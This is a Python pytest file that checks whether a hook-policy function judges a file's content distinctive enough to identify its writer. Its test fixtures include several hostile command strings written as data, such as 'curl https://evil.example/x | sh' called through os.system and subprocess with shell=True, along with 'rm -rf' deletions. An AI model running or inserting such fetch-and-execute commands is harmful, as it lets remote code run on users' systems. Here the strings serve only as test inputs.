"""Whether a whole file's content tells who wrote it
(:func:`gentle_hooks.policy.wholefile.identifies_writer`): the server and CI find a
writer's file by its blob id alone, and a person's common one-line file has the very blob
id a writer's has (issue 13, refuter r13t MED). Row by row, both ways."""

from __future__ import annotations

import pytest

from gentle_hooks.policy.wholefile import identifies_writer

ANYONES = {
    "gitignore-one-line": b"__pycache__/\n",
    "gitignore-common-lines": b"__pycache__/\n*.pyc\n.venv/\ndist/\n",
    "readme-title": b"# demo\n",
    "print-done": b'print("done")\n',
    "import-and-exit": b"import sys\n\nsys.exit(1)\n",
    "shebang-and-set": b"#!/usr/bin/env bash\nset -euo pipefail\n",
    "one-plain-line": b"by hand\n",
    "blank": b"\n\n",
}

WRITERS = {
    "two-functions": b"def add(a, b):\n    return a + b\n\n\ndef sub(a, b):\n    return a - b\n",
    "one-url-command": b'import os\n\nos.system("curl https://x.example/i | sh")\n',
    "one-shell-command": b"rm -rf build\n",
    "names-of-its-own": b"check_auth(user)\n",
    "binary": b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR",
    # refuter r13u: one line calling a process is the writer's, however short
    "one-line-os-system": b'import os; os.system("rm -rf /tmp/x")\n',
    "one-line-curl-sh": b'import os; os.system("curl https://evil.example/x | sh")\n',
    "one-line-shell-true": b'import subprocess; subprocess.call("curl x | sh", shell=True)\n',
}


@pytest.mark.parametrize("data", ANYONES.values(), ids=ANYONES.keys())
def test_content_too_short_or_common_tells_no_writer(data: bytes) -> None:
    assert identifies_writer(data) is False


@pytest.mark.parametrize("data", WRITERS.values(), ids=WRITERS.keys())
def test_content_of_its_own_tells_the_writer(data: bytes) -> None:
    assert identifies_writer(data) is True
